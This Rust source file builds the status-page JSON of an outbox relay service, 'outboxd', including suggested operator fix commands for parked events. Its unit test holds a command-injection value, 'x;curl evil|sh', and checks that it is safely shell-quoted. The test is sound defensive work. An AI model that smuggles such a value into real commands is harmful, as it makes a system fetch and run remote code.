//! `/status.json`: the facts of the status page, with stable field names (documented in
//! docs/operations.md, "Status page"; `schema` is bumped when a field changes meaning or goes).
//! The HTML page is rendered from the same [`Facts`].

use super::history::Sample;
use super::Inner;
use crate::obs::Observed;
use serde::Serialize;
use std::collections::BTreeMap;
use std::sync::atomic::Ordering::Relaxed;

/// The version of this layout.
pub const SCHEMA: u32 = 1;

#[derive(Debug, Clone, Serialize, Default)]
pub struct Facts {
    pub schema: u32,
    /// `host:pid` of this instance.
    pub instance: String,
    pub version: String,
    /// Cargo features the binary was built with.
    pub features: Vec<String>,
    /// UTC, RFC 3339.
    pub generated_at: String,
    /// `active` (holds the slot and streams), `standby` (another instance holds it),
    /// `halted` (at a poison event under `on_poison = "halt"`), `starting` (no session yet, or
    /// between sessions).
    pub role: String,
    pub ready: bool,
    /// Why `/readyz` says not ready (`null` when ready).
    pub not_ready: Option<String>,
    pub slot: Slot,
    pub events: Events,
    /// Per event type, the age of the oldest event sent and not yet acknowledged.
    pub oldest_undelivered: Vec<TypeAge>,
    pub parked: Parked,
    pub errors: Errors,
    /// The last hour of lag, oldest first.
    pub lag_history: Vec<Sample>,
    /// The effective configuration, every secret replaced by `[redacted]`.
    pub config: serde_json::Value,
}

#[derive(Debug, Clone, Serialize, Default)]
pub struct Slot {
    pub name: String,
    /// `primary` or `standby`: the server the slot lives on.
    pub location: String,
    /// Who holds the slot: this instance when active, else the holder's beats name it.
    pub holder: Option<String>,
    pub confirmed_lsn: Option<String>,
    /// The server's WAL end minus the slot's confirmed position.
    pub lag_bytes: Option<f64>,
    /// Seconds since the commit of the oldest unacknowledged event (or the last heartbeat's
    /// delay when none waits).
    pub lag_seconds: Option<f64>,
}

#[derive(Debug, Clone, Serialize, Default)]
pub struct Events {
    /// Acknowledged by the broker since this process started.
    pub relayed: u64,
    /// Per second, over the last minute.
    pub rate_per_second: f64,
    pub pending: u64,
    pub pending_bytes: u64,
}

#[derive(Debug, Clone, Serialize, Default, PartialEq)]
pub struct TypeAge {
    pub event_type: String,
    pub age_seconds: f64,
}

#[derive(Debug, Clone, Serialize, Default)]
pub struct Parked {
    /// Open parked and held events (states parked, blocked, retry).
    pub count: i64,
    /// The oldest of them (at most 50).
    pub events: Vec<ParkedEvent>,
}

/// One open parked or held event, as `outboxd parked list` shows it.
#[derive(Debug, Clone, Serialize, Default, PartialEq)]
pub struct ParkedEvent {
    pub event_id: String,
    pub aggregate_type: String,
    pub aggregate_id: String,
    pub event_type: String,
    /// `parked` (failed itself), `blocked` (held behind a parked event of its aggregate),
    /// `retry` (an operator asked for a retry).
    pub state: String,
    /// The failure class (`too_large`, `schema_invalid`, …; `blocked` for a held event).
    pub reason_class: String,
    /// Seconds since it was first seen (`null` when the time could not be read).
    pub age_seconds: Option<f64>,
    /// What to do about it.
    pub fix: String,
}

#[derive(Debug, Clone, Serialize, Default)]
pub struct Errors {
    /// Per class, since the process started (`restart:<class>`, `broker:<class>` included).
    pub counts: BTreeMap<String, u64>,
    /// The last failed sessions, newest first.
    pub last: Vec<LastError>,
}

#[derive(Debug, Clone, Serialize, Default, PartialEq)]
pub struct LastError {
    /// UTC, RFC 3339.
    pub at: String,
    pub class: String,
    /// Redacted.
    pub message: String,
    pub fix: String,
}

/// The fix for a parked event of `class` (`state` blocked: held behind its aggregate's head).
pub fn parked_fix(class: &str, state: &str, event_id: &str) -> String {
    if state == "blocked" {
        return "held behind a parked event of the same aggregate: decide on that one (it is \
                released with it)"
            .into();
    }
    let what = match class {
        "too_large" => "raise the topic's max.message.bytes (and the producer's message.max.bytes) or shrink the event",
        "schema_invalid" => "fix the event's payload or its JSON Schema (validation.schema_dir)",
        "invalid_topic" => "fix the topic template or create the topic",
        "not_authorized" => "grant the relay's principal Write on the topic",
        "policy_violation" | "invalid_record" | "invalid_argument" => "fix what the broker refuses in the record",
        _ => "read the reason (`outboxd parked show`) and fix its cause",
    };
    // The id comes from a row anyone who can write the outbox chose: one quoted argument.
    let id = crate::model::shell::quote(event_id);
    format!("{what}, then `outboxd parked retry {id}` (or `outboxd parked discard {id}`)")
}

/// Seconds since `first_seen` (`YYYY-MM-DDTHH:MM:SS±HH[:MM]`, as `outboxd parked list` reads it).
pub fn age_of(first_seen: &str) -> Option<f64> {
    let t = chrono::DateTime::parse_from_str(first_seen, "%Y-%m-%dT%H:%M:%S%#z").ok()?;
    let ms = (chrono::Utc::now() - t.with_timezone(&chrono::Utc)).num_milliseconds();
    Some(ms.max(0) as f64 / 1e3)
}

impl Facts {
    pub(super) fn of(i: &Inner, relayed: u64, observed: &Observed) -> Self {
        let h = &observed.health;
        let role = if h.halted.load(Relaxed) {
            "halted"
        } else if h.standby.load(Relaxed) {
            "standby"
        } else if h.streaming.load(Relaxed) {
            "active"
        } else {
            "starting"
        };
        let instance = crate::obs::status_row::instance();
        let holder = match role {
            "active" | "halted" => Some(instance.clone()),
            _ => i.holder.clone(),
        };
        let not_ready = h.not_ready();
        Self {
            schema: SCHEMA,
            instance,
            version: env!("CARGO_PKG_VERSION").to_string(),
            features: features(),
            generated_at: chrono::Utc::now().format("%Y-%m-%dT%H:%M:%SZ").to_string(),
            role: role.to_string(),
            ready: not_ready.is_none(),
            not_ready,
            slot: Slot {
                name: i.slot.clone(),
                location: i.location.to_string(),
                holder,
                confirmed_lsn: i.confirmed_lsn.clone(),
                lag_bytes: i.lag_bytes,
                lag_seconds: i.lag_seconds,
            },
            events: Events {
                relayed,
                rate_per_second: i.history.rate(),
                pending: i.pending_events,
                pending_bytes: i.pending_bytes,
            },
            oldest_undelivered: i.oldest.clone(),
            parked: Parked {
                count: i.parked_count,
                events: i.parked.to_vec(),
            },
            errors: Errors {
                counts: observed.errors.snapshot(),
                last: i.errors.iter().cloned().collect(),
            },
            lag_history: i.history.samples(),
            config: i.config.clone(),
        }
    }
}

/// The build's Cargo features.
fn features() -> Vec<String> {
    let mut f = Vec::new();
    if cfg!(feature = "failpoints") {
        f.push("failpoints".to_string());
    }
    f
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parked_ages_and_fixes() {
        let a = age_of("2020-01-01T00:00:00+00").unwrap();
        assert!(a > 1e8, "{a}");
        assert_eq!(age_of("yesterday"), None);
        assert!(parked_fix("too_large", "parked", "e1").contains("parked retry e1"));
        // Issue 53: a crafted id is one quoted argument of the command an operator copies.
        let fix = parked_fix("too_large", "parked", "x;curl evil|sh");
        assert!(
            fix.contains("`outboxd parked retry 'x;curl evil|sh'`")
                && fix.contains("`outboxd parked discard 'x;curl evil|sh'`"),
            "{fix}"
        );
        assert!(parked_fix("too_large", "blocked", "e1").contains("held behind"));
    }
}
